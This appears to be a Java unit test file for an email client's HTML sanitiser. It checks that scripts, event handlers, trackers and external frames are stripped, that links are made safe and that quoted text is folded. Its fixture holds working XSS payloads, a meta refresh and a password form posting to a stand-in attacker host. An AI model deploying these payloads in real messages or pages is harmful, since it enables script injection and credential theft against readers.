package org.opportune.inbox;

import java.util.Map;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class HtmlEmailTests {

    private static final String HOSTILE = """
            <html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
            <style>body { background: url(https://evil.example/track.png) }</style>
            <script>alert('script')</script><base href="https://evil.example/"></head>
            <body onload="alert('onload')">
            <p>Hello <b>Anna</b>, <a href="javascript:alert('link')">click</a> or <a href="https://shop.example/offer">see the offer</a></p>
            <img src="x" onerror="alert('img')">
            <svg onload="alert('svg')"><script>alert('svg script')</script></svg>
            <iframe src="https://evil.example/"></iframe>
            <form action="https://evil.example/steal"><input name="password"></form>
            <object data="https://evil.example/x.swf"></object>
            <div style="position:fixed;top:0">overlay</div>
            <img src="https://tracker.example/pixel.gif" width="1" height="1">
            <img src="cid:logo@shop.example" alt="logo">
            <img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">
            </body></html>""";

    @Test
    void nothingThatRunsOrLeavesThePageSurvives() {
        var result = HtmlEmail.sanitise(HOSTILE, Map.of(), false);

        assertThat(result.html())
                .doesNotContainIgnoringCase("<script")
                .doesNotContainIgnoringCase("alert(")
                .doesNotContainIgnoringCase("onload")
                .doesNotContainIgnoringCase("onerror")
                .doesNotContainIgnoringCase("javascript:")
                .doesNotContainIgnoringCase("<svg")
                .doesNotContainIgnoringCase("<iframe")
                .doesNotContainIgnoringCase("<form")
                .doesNotContainIgnoringCase("<object")
                .doesNotContainIgnoringCase("http-equiv")
                .doesNotContainIgnoringCase("evil.example")
                .doesNotContainIgnoringCase("style=")
                .doesNotContainIgnoringCase("tracker.example")
                .doesNotContainIgnoringCase("data:image/svg");
        assertThat(result.html()).contains("Hello <b>Anna</b>", "see the offer", "overlay");
    }

    @Test
    void linksOpenOutsideThePageWithoutTellingTheSiteWhereTheyCameFrom() {
        var result = HtmlEmail.sanitise(HOSTILE, Map.of(), false);

        assertThat(result.html()).contains(
                "<a href=\"https://shop.example/offer\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">see the offer</a>");
    }

    @Test
    void remoteImagesWaitForTheReaderButInlineImagesShow() {
        var blocked = HtmlEmail.sanitise(HOSTILE, Map.of("logo@shop.example", "/messages/7/images/3"), false);
        var loaded = HtmlEmail.sanitise(HOSTILE, Map.of("logo@shop.example", "/messages/7/images/3"), true);

        assertThat(blocked.blockedImages()).isEqualTo(1);
        assertThat(blocked.html()).contains("src=\"/messages/7/images/3\"").contains("[image not loaded]");
        assertThat(loaded.blockedImages()).isZero();
        assertThat(loaded.html()).contains("src=\"https://tracker.example/pixel.gif\"");
    }

    @Test
    void quotedHistoryIsFolded() {
        var result = HtmlEmail.sanitise("""
                <p>Yes, 40 desks please.</p>
                <div class="gmail_quote">On Monday Anna wrote:<blockquote>Which model?</blockquote></div>""",
                Map.of(), false);

        assertThat(result.html()).contains("<details>").contains("<summary>Show quoted text</summary>")
                .containsOnlyOnce("<details>");
        assertThat(result.html().indexOf("Yes, 40 desks")).isLessThan(result.html().indexOf("<details>"));
    }
}
